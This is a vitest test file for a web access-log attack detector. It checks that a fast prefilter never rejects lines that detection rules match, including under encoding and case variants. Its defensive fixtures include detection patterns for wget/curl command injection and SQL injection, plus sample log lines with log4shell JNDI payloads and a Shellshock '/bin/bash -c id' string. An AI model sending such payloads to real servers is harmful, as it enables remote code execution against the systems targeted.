/**
 * The shared prefilter is a necessary condition only: it may let through what a rule then refuses,
 * never reject what the rule matches. Checked against every preset over the samples of every preset
 * and adversarial spellings (case, percent-encoding, `\`, `//`, `+`, non-ASCII).
 */
import { describe, expect, it } from 'vitest';
import { compileRule, MatchView } from '../../../src/detect/rule.js';
import { gateOf, Prefilter, sentinelsOf } from '../../../src/detect/prefilter.js';
import { requiredLiterals } from '../../../src/detect/literals.js';
import { PRESETS, PRESET_DEFINITIONS } from '../../../src/detect/presets.js';
import { createLineParser } from '../../../src/parse/line-parser.js';
import { isSkip, type AccessEvent } from '../../../src/parse/access-event.js';

describe('requiredLiterals', () => {
  it.each([
    [String.raw`union\s+select`, ['select']],
    [String.raw`[;|]\s*(?:wget|curl)\s`, ['wget', 'curl']],
    [String.raw`widget_php|widgetconfig\[code\]`, ['widget_php', 'widgetconfig[code]']],
    [String.raw`^/(?:index\.php/)?wp-json/wp/v2/users(?:/\d+)?/?$`, ['wp-json/wp/v2/users']],
    [String.raw`\(\s*\)\s*\{\s*[:;]`, ['{']],
    [String.raw`/\.\.;/`, ['/..;/']],
    [String.raw`ab?c`, ['c']], // 'a' is common, 'c' less so
    [String.raw`x{2}yz`, ['yz']],
    [String.raw`/\+CSCOE\+/`, ['/ cscoe /']],
    ['/caf\u00e9-menu', ['-menu']], // non-ASCII never becomes part of a literal
  ])('%s needs one of %j', (p, lits) => {
    expect(requiredLiterals(p)?.sort()).toEqual([...lits].sort());
  });
  it.each([String.raw`^[a-z]+$`, String.raw`.*`, String.raw`a|[0-9]`, String.raw`(?:abc)?`, String.raw`a*`])('%s needs none', (p) => {
    expect(requiredLiterals(p)).toBeNull();
  });
});

describe('sentinelsOf', () => {
  it('finds a few fold-invariant characters every literal holds, or none', () => {
    expect(sentinelsOf(['${jndi:', '${lower:', '() { :', '(){:'])).toEqual(['{']);
    expect(sentinelsOf(['sqlmap', 'nikto'])).toBeNull();
    expect(sentinelsOf(['a;b', 'c<d', 'e|f', 'g`h'])).toBeNull(); // more than 3
    expect(sentinelsOf([])).toBeNull();
  });
});

describe('Prefilter', () => {
  const names = Object.keys(PRESETS);
  const rules = names.map((n) => compileRule(n, PRESETS[n]!));
  const parse = createLineParser('auto');
  const lines = PRESET_DEFINITIONS.flatMap((d) => [...d.samples.match, ...d.samples.noMatch]);
  // Respellings a decoder or normaliser undoes, and case.
  const respell = (line: string): string[] => {
    const m = /"([A-Z]+) (\S+) (HTTP\/[0-9.]+)"/.exec(line);
    if (m === null) return [line];
    const [, meth, target] = m;
    const enc = target!.replace(/[a-z./]/g, (c) => `%${c.charCodeAt(0).toString(16)}`);
    const variants = [target!.toUpperCase(), enc, enc.replace(/%/g, '%25'), target!.replace(/\//g, '\\'), target!.replace(/\//g, '//'), target!.replace(/ /g, '+')];
    return [line, ...variants.map((v) => line.replace(`"${meth} ${target}`, `"${meth} ${v}`))];
  };
  const events: AccessEvent[] = [];
  for (const l of lines.flatMap(respell)) {
    const e = parse(l);
    if (!isSkip(e)) events.push(e);
  }

  it('never rejects an event a rule matches', () => {
    expect(events.length).toBeGreaterThan(100);
    const pf = new Prefilter(rules);
    const view = new MatchView();
    let matched = 0;
    for (const ev of events) {
      view.reset(ev);
      const pass = pf.pass(ev);
      rules.forEach((r, i) => {
        if (!r.matchesView(view)) return;
        matched++;
        expect(pass, `${r.name} on ${ev.method} ${ev.path}`).not.toBe(0);
        expect(pf.mayMatch(i, pass), `${r.name} on ${ev.method} ${ev.path} ${(ev as { userAgent?: string }).userAgent}`).toBe(true);
      });
    }
    expect(matched).toBeGreaterThan(50);
  });

  it('rejects ordinary lines for the rules with a gate', () => {
    const pf = new Prefilter(rules);
    const e = parse('198.18.0.1 - - [02/Dec/2026:10:00:00 +0000] "GET /shop/cart HTTP/1.1" 200 512 "https://shop.example/" "Mozilla/5.0 (X11; Linux x86_64)"');
    if (isSkip(e)) throw new Error(e);
    const pass = pf.pass(e);
    const through = names.filter((_, i) => pass !== 0 && pf.mayMatch(i, pass));
    const gated = names.filter((n) => gateOf(PRESETS[n]!.match) !== null);
    for (const n of gated) expect(through, n).not.toContain(n);
  });

  it('with only status rules, a line of another status goes no further', () => {
    const pf = new Prefilter([compileRule('forbidden', PRESETS.forbidden!)]);
    expect(pf.pass({ ip: '198.18.0.1', family: 4, time: 0, method: 'GET', path: '/', status: 200 })).toBe(0);
    expect(pf.pass({ ip: '198.18.0.1', family: 4, time: 0, method: 'GET', path: '/', status: 403 })).not.toBe(0);
  });

  it('a header without the sentinel skips the scan; one with it is scanned', () => {
    const r = compileRule('ua', { ...PRESETS.forbidden!, match: { status: null, paths: [], methods: [], userAgents: [String.raw`\$\{jndi:`] } });
    const pf = new Prefilter([r]);
    const at = (ua: string): boolean => pf.mayMatch(0, pf.pass({ ip: '198.18.0.1', family: 4, time: 0, method: 'GET', path: '/', status: 200, userAgent: ua } as AccessEvent));
    expect(at('Mozilla/5.0 (X11)')).toBe(false);
    expect(at('x ${JNDI:ldap://198.18.0.9/a}')).toBe(true);
    expect(at('x {not it}')).toBe(false);
  });
  it('a User-Agent or target with a character ≥ 128 passes every gate on it (RE2 folds some to ASCII)', () => {
    const r = compileRule('ua', { ...PRESETS.forbidden!, match: { status: null, paths: [], methods: [], userAgents: [String.raw`\bsqlmap\b`] } });
    const pf = new Prefilter([r]);
    const ev = { ip: '198.18.0.1', family: 4 as const, time: 0, method: 'GET', path: '/', status: 200, userAgent: 'ſqlmap' };
    const pass = pf.pass(ev);
    expect(pf.mayMatch(0, pass)).toBe(true);
  });
});

describe('header sentinels: a line whose headers hold none of the rare characters is not read for them', () => {
  const exploit = compileRule('exploit-probes', PRESETS['exploit-probes']!);
  const T = '02/Dec/2026:10:00:00 +0000';
  const pass = (line: string): boolean => {
    const ev = createLineParser('auto')(line);
    if (isSkip(ev)) throw new Error(`skipped: ${ev}`);
    const p = new Prefilter([exploit]);
    const view = new MatchView();
    view.reset(ev);
    const token = p.pass(ev, view);
    return token !== 0 && p.mayMatch(0, token) && exploit.matchesView(view);
  };
  it('log4shell and Shellshock in the User-Agent or the referer are still caught', () => {
    expect(pass(`198.18.0.1 - - [${T}] "GET / HTTP/1.1" 200 5 "-" "\${jndi:ldap://198.18.9.9/a}"`)).toBe(true);
    expect(pass(`198.18.0.1 - - [${T}] "GET / HTTP/1.1" 200 5 "\${jNdI:ldap://198.18.9.9/a}" "Mozilla/5.0"`)).toBe(true);
    expect(pass(`198.18.0.1 - - [${T}] "GET / HTTP/1.1" 200 5 "-" "() { :; }; /bin/bash -c id"`)).toBe(true);
  });
  it('the same lines without the sentinel character are not, and a sentinel only in the target does not open the header gates', () => {
    expect(pass(`198.18.0.1 - - [${T}] "GET / HTTP/1.1" 200 5 "-" "jndi:ldap://198.18.9.9/a"`)).toBe(false);
    expect(pass(`198.18.0.1 - - [${T}] "GET /x?q={} HTTP/1.1" 200 5 "-" "Mozilla/5.0"`)).toBe(false);
  });
  it('a parsed event answers for its own line only, even when it was parsed from a range of a larger text', () => {
    const a = `198.18.0.1 - - [${T}] "GET / HTTP/1.1" 200 5 "-" "Mozilla/5.0"`;
    const b = `198.18.0.2 - - [${T}] "GET / HTTP/1.1" 200 5 "-" "\${jndi:x}"`;
    const text = `${a}\n${b}\n`;
    const ev = createLineParser('auto').range(text, 0, a.length) as AccessEvent;
    expect(ev.headersMayHold!(['{'])).toBe(false);
    const ev2 = createLineParser('auto').range(text, a.length + 1, a.length + 1 + b.length) as AccessEvent;
    expect(ev2.headersMayHold!(['{'])).toBe(true);
  });
});
